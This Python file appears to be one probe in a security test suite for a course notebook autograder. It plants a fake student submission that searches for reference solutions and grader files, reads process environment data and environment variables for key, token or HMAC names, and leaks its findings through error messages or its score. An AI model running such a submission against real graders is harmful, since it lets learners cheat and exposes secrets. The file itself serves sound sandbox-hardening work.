"""a19: reference code, hidden cases or the grader's secrets reachable from inside (goal 2).

Route: `count_gpt2_params` (first call) tries to import gpt2course, gpt2course.numpy_gpt,
grader, grader.lessons, grader.lessons.l05_counting, solutions; looks for solutions/*.ipynb,
grader/lessons/*.py and the course checkout under /, /work, /tmp, /root, /usr, the Python
installation's site-packages (.pth files naming the checkout); reads /proc/1/environ,
/proc/1/cmdline and os.environ for keys/secrets (an HMAC key signing saved results would
let a learner forge a result).
Later calls return the answer only if something was found (score channel).
Breached: count scores > 0, or FOUND19 lists an importable reference module, a readable
solutions/lessons file or a secret-looking variable.
"""
import pathlib
import re

from _nb import GOOD, gradebook_rows, nb_name, notebook, write_nb

SRC = GOOD["count_gpt2_params"].replace("def count_gpt2_params", "def _good") + r'''
import importlib as _il, glob as _gl
_F = []
_INFO = []
def _look():
    for m in ("gpt2course", "gpt2course.numpy_gpt", "grader", "grader.lessons", "grader.lessons.l05_counting", "solutions"):
        try:
            mod = _il.import_module(m)
            if getattr(mod, "__file__", None):  # a real module, not an empty namespace package
                _F.append(f"import:{m}@{mod.__file__}")
            else:
                _INFO.append(f"{m}:namespace-only:{list(getattr(mod, '__path__', []))[:2]}")
        except BaseException as e:
            _INFO.append(f"{m}:{type(e).__name__}")
    pats = ["/*/solutions/*.ipynb", "/*/*/solutions/*.ipynb", "/*/*/*/solutions/*.ipynb", "/work/*/solutions/*.ipynb",
            "/tmp/*/solutions/*.ipynb", "/root/*/solutions/*.ipynb", "/*/grader/lessons/*.py", "/*/*/grader/lessons/*.py",
            "/work/*/grader/lessons/*.py", "/tmp/*/grader/lessons/*.py", "/grader/*lesson*", "/grader/*case*", "/grader/*solution*"]
    for p in pats:
        try:
            hits = _gl.glob(p)
        except BaseException:
            hits = []
        for h in hits[:2]:
            try:
                with open(h) as f:
                    f.read(100)
                _F.append(f"read:{h}")
            except BaseException:
                _INFO.append(f"seen-not-read:{h}")
    try:
        import site, sysconfig
        for sp in [sysconfig.get_paths()["purelib"]]:
            for pth in _gl.glob(os.path.join(sp, "*.pth")) + _gl.glob(os.path.join(sp, "__editable__*")):
                try:
                    txt = open(pth).read(300)
                    if "gpt2" in txt or "grader" in txt or "/work" in txt:
                        _INFO.append(f"pth:{os.path.basename(pth)}={txt.strip()[:60]}")
                except BaseException:
                    pass
    except BaseException:
        pass
    for p in ("/proc/1/environ", "/proc/1/cmdline"):
        try:
            t = open(p, "rb").read(2000).decode(errors="replace")
            if re.search(r"(?i)key|secret|token|hmac|passw", t):
                _F.append(f"secret-in:{p}")
            _INFO.append(f"{p}:{t[:60]!r}")
        except BaseException as e:
            _INFO.append(f"{p}:{type(e).__name__}")
    for k in os.environ:
        if re.search(r"(?i)key|secret|token|hmac|passw", k):
            _F.append(f"env:{k}")
import re
_n = [0]
def count_gpt2_params(V, T, d, L, tied=True, bias=True):
    _n[0] += 1
    if _n[0] == 1:
        _look()
        raise RuntimeError("FOUND19 " + ";".join(_F) + " | " + " ".join(_INFO))
    if _F:
        return _good(V, T, d, L, tied, bias)
    raise RuntimeError("FOUND19 none")
'''


def build(tmp: pathlib.Path) -> list[str]:
    write_nb(tmp / "class" / "alice" / nb_name("05_counting"), notebook("05_counting", {"count_gpt2_params": SRC}))
    return [str(tmp / "class")]


def verdict(out: pathlib.Path, run: dict):
    rows = {r["submission"]: r for r in gradebook_rows(out)}
    score = float(rows.get("alice", {}).get("count_gpt2_params") or 0)
    text = (out / "report.json").read_text() if (out / "report.json").exists() else ""
    m = re.search(r"FOUND19 ([^|\"]*) \| ([^\"]*?)(\\n|\")", text)
    if score > 0 or (m and m.group(1).strip()):
        return True, f"score {score}; found: {m.group(1)[:200] if m else '(score channel)'}"
    return False, f"score {score}; {m.group(2)[:250] if m else 'nothing visible'}"
